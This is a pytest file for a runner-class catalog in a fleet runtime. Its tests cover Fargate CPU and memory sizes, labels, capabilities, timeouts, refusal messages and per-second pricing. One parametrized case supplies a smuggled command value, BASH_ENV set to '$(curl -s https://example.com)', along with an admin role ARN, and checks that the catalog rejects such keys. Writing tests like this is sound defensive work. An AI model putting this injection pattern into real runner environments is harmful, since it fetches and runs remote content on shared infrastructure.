from __future__ import annotations

import json
from typing import Any

import pytest

from fleet_runtime.job.catalog import (
    FARGATE_SIZES,
    Catalog,
    CatalogError,
    RunnerClass,
)
from fleet_runtime.job.labels import Refusal
from fleet_runtime.job.pricing import usd_per_second


def find(catalog: dict[str, Any], name: str = "odd") -> RunnerClass | Refusal:
    return Catalog.parse(json.dumps(catalog)).find(name)


def odd(**entry: Any) -> RunnerClass:
    found = find({"odd": {"cpu": 512, "memory": 1024, **entry}})
    assert isinstance(found, RunnerClass), found
    return found


SIZES = {"small": {"cpu": 512, "memory": 1024}, "Large": {"cpu": 2048, "memory": 4096}}


def test_what_a_catalog_of_an_older_version_lacks_has_defaults() -> None:
    assert find(SIZES, "small") == RunnerClass(
        name="small",
        cpu=512,
        memory=1024,
        architecture="X86_64",
        labels=frozenset({"linux", "x64"}),
        capabilities=(),
        capacity=("FARGATE",),
        max_runners=None,
        allow_images=True,
        ephemeral_storage=20,
        timeouts={},
        image="",
    )


def test_a_class_may_have_a_limit_of_its_own() -> None:
    assert odd(max_runners=3).max_runners == 3


def test_a_class_may_have_a_disk_and_timeouts_of_its_own() -> None:
    assert odd(ephemeral_storage=200).ephemeral_storage == 200
    assert odd(boot_timeout_seconds=900, job_timeout_seconds=60).timeouts == {
        "boot": 900,
        "job": 60,
    }


def test_default_labels_follow_the_architecture() -> None:
    assert odd(architecture="ARM64").labels == {"linux", "arm64"}
    assert odd(architecture="ARM64", labels=["Mine"]).labels == {"mine"}


def test_capabilities_are_words_in_lower_case_once_each() -> None:
    assert odd(capabilities=["Python", "c++", "python"]).capabilities == ("python", "c++")
    assert odd(capabilities=[]).capabilities == ()


def test_a_class_is_found_by_its_lowered_name_and_keeps_its_own() -> None:
    found = find(SIZES, "large")
    assert isinstance(found, RunnerClass)
    assert found.name == "Large"


def test_an_unknown_class_is_refused_with_those_there_are() -> None:
    refused = find(SIZES, "huge")
    assert isinstance(refused, Refusal)
    assert "class 'huge' is not in the catalog, use one of small, large" in refused.reason


@pytest.mark.parametrize(
    ("entry", "reason"),
    [
        (7, "it is 7 and not an object"),
        ({}, "cpu is None"),
        *(
            ({"cpu": 512, "memory": 1024, "max_runners": most}, "not a whole number of at least 1")
            for most in (0, "3", 1.5, True)
        ),
        ({"cpu": "512", "memory": 1024}, "cpu is '512'"),
        (
            {"cpu": 300, "memory": 1024},
            "Fargate has 256, 512, 1024, 2048, 4096, 8192, 16384, 32768",
        ),
        ({"cpu": 512, "memory": 512}, "with cpu 512 Fargate has 1024, 2048, 3072, 4096"),
        ({"cpu": 512, "memory": 1024, "labels": "gpu"}, "labels is 'gpu'"),
        ({"cpu": 512, "memory": 1024, "labels": [1]}, "labels is [1]"),
        *(
            (
                {"cpu": 512, "memory": 1024, "architecture": architecture},
                f"architecture is {architecture!r}, Fargate has X86_64, ARM64",
            )
            for architecture in ("arm64", None, ["ARM64"])
        ),
        *(
            ({"cpu": 512, "memory": 1024, "capabilities": given}, f"capabilities is {given!r}")
            for given in ("python", None, [7], ["a,b"], ["a b"], [""], ["class:x"], ["x" * 64])
        ),
        ({"cpu": 512, "memory": 1024, "capacity": []}, "capacity is []"),
        ({"cpu": 512, "memory": 1024, "image": 5}, "image is 5 and not the name of one"),
        ({"cpu": 512, "memory": 1024, "allow_images": "no"}, "allow_images is 'no' and neither"),
        ({"cpu": 512, "memory": 1024, "capacity": ["EC2"]}, "FARGATE and FARGATE_SPOT"),
        *(
            (
                {"cpu": 512, "memory": 1024, key: given},
                f"{key} cannot be given here: deploy RunnerClass({key}=…) by this name",
            )
            for key, given in (
                ("task_role", "arn:aws:iam::123456789012:role/admin"),
                ("environment", {"BASH_ENV": "$(curl -s https://example.com)"}),
                ("vpc_subnets", ["subnet-1"]),
                ("runner_group", None),
                ("tags", {}),
                ("mounts", []),
            )
        ),
        *(
            ({"cpu": 512, "memory": 1024, "ephemeral_storage": given}, "Fargate has 20 to 200 GiB")
            for given in (19, 201, "100", 50.5, True, None)
        ),
        *(
            ({"cpu": 512, "memory": 1024, f"{name}_timeout_seconds": given}, f"and not 1 to {most}")
            for name, most in (("boot", 3600), ("idle", 86400), ("job", 432000))
            for given in (0, most + 1, "60", 1.5, True, None)
        ),
    ],
)
def test_an_unusable_class_refuses_only_its_own_jobs(entry: object, reason: str) -> None:
    catalog = {**SIZES, "odd": entry}
    refused = find(catalog)
    assert isinstance(refused, Refusal)
    assert refused.reason.startswith("class 'odd' cannot be used, ")
    assert reason in refused.reason
    assert isinstance(find(catalog, "small"), RunnerClass)


@pytest.mark.parametrize("text", ["", "{", "[]", "{}", "7"])
def test_an_unreadable_catalog_is_an_error_to_try_again(text: str) -> None:
    with pytest.raises(CatalogError, match="class catalog"):
        Catalog.parse(text)


def test_fargates_sizes_are_those_of_its_documentation() -> None:
    # 0.25 to 4 vCPU step by 1 GB, 8 vCPU by 4 GB, 16 vCPU by 8 GB
    assert {cpu: (sizes[0], sizes[-1], len(sizes)) for cpu, sizes in FARGATE_SIZES.items()} == {
        256: (512, 2048, 3),
        512: (1024, 4096, 4),
        1024: (2048, 8192, 7),
        2048: (4096, 16384, 13),
        4096: (8192, 30720, 23),
        8192: (16384, 61440, 12),
        16384: (32768, 122880, 12),
        32768: (61440, 249856, 3),
    }


@pytest.mark.parametrize(
    ("architecture", "vcpu", "gb"), [("X86_64", 0.04048, 0.004445), ("ARM64", 0.03238, 0.00356)]
)
def test_prices_are_aws_own(architecture: str, vcpu: float, gb: float) -> None:
    def hour(capacity: str) -> float:
        size = {"cpu": 2048, "memory": 6144, "storage": 20, "architecture": architecture}
        return usd_per_second(**size, capacity=capacity) * 3600  # type: ignore[arg-type]

    assert hour("FARGATE") == pytest.approx(2 * vcpu + 6 * gb, rel=1e-5)
    assert hour("FARGATE_SPOT") == pytest.approx(0.3 * hour("FARGATE"), rel=1e-5)


@pytest.mark.parametrize("capacity", ["FARGATE", "FARGATE_SPOT"])
def test_storage_beyond_twenty_gb_costs_the_same_on_spot(capacity: str) -> None:
    def hour(storage: int) -> float:
        size = {"cpu": 512, "memory": 1024, "storage": storage, "architecture": "ARM64"}
        return usd_per_second(**size, capacity=capacity) * 3600  # type: ignore[arg-type]

    assert hour(200) - hour(20) == pytest.approx(180 * 0.000111, rel=1e-4)
